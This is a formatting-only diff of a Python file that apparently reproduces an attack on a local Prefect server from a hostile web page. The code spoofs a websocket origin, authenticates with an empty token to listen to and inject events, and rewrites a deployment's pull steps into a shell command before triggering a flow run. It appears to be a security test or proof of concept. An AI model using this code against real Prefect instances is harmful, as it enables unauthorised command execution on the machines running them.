@@ -48,8 +48,10 @@ def send(port: int, method: str, path: str, body: str = "", headers: Mapping[str
 def overheard(port: int, path: str = "/api/events/out", seconds: float = 8) -> list[str]:
     """Return what a web socket of Prefect's server tells the attacker's page."""
     heard: list[str] = []
-    with suppress(WebSocketException, OSError), \
-            connect(f"ws://127.0.0.1:{port}{path}", origin=f"http://{NAME}", subprotocols=["prefect"], proxy=None) as socket:
+    with (
+        suppress(WebSocketException, OSError),
+        connect(f"ws://127.0.0.1:{port}{path}", origin=f"http://{NAME}", subprotocols=["prefect"], proxy=None) as socket,
+    ):
         socket.send(json.dumps({"type": "auth", "token": ""}))
         heard.append(str(socket.recv(timeout=10)))
         filters = {"occurred": {"since": "2020-01-01T00:00:00Z", "until": "2100-01-01T00:00:00Z"}}
@@ -64,8 +66,10 @@ def overheard(port: int, path: str = "/api/events/out", seconds: float = 8) -> l
 def shouted(port: int, name: str) -> bool:
     """Return whether the attacker's page could send an event of its own over a web socket."""
     event = {"occurred": "2026-01-01T00:00:00Z", "event": name, "resource": {"prefect.resource.id": name}, "id": "0" * 32}
-    with suppress(WebSocketException, OSError, TimeoutError), \
-            connect(f"ws://127.0.0.1:{port}/api/events/in", origin=f"http://{NAME}", subprotocols=["prefect"], proxy=None) as socket:
+    with (
+        suppress(WebSocketException, OSError, TimeoutError),
+        connect(f"ws://127.0.0.1:{port}/api/events/in", origin=f"http://{NAME}", subprotocols=["prefect"], proxy=None) as socket,
+    ):
         socket.send(json.dumps({"type": "auth", "token": ""}))
         if "auth_success" in str(socket.recv(timeout=10)):
             socket.send(json.dumps(event))
@@ -86,10 +90,19 @@ def ids_of(heard: list[str], deployment: str) -> tuple[str, str] | None:
 def order(port: int, deployment: str, ids: tuple[str, str], command: str) -> list[int]:
     """Have a deployment run a command, by requests that need no leave of the server, and return how they were answered."""
     deployment_id, flow_id = ids
-    changed = json.dumps({"name": deployment, "flow_id": flow_id, "entrypoint": "flows.orchestration.ingest.ingest", "pull_steps": shell(command),
-                          "enforce_parameter_schema": False})
-    return [send(port, "POST", "/api/deployments/", changed)[0],
-            send(port, "POST", f"/api/deployments/{deployment_id}/create_flow_run", "{}")[0]]
+    changed = json.dumps(
+        {
+            "name": deployment,
+            "flow_id": flow_id,
+            "entrypoint": "flows.orchestration.ingest.ingest",
+            "pull_steps": shell(command),
+            "enforce_parameter_schema": False,
+        }
+    )
+    return [
+        send(port, "POST", "/api/deployments/", changed)[0],
+        send(port, "POST", f"/api/deployments/{deployment_id}/create_flow_run", "{}")[0],
+    ]
 
 
 PAGE = """<!doctype html><meta charset="utf-8"><title>News</title>
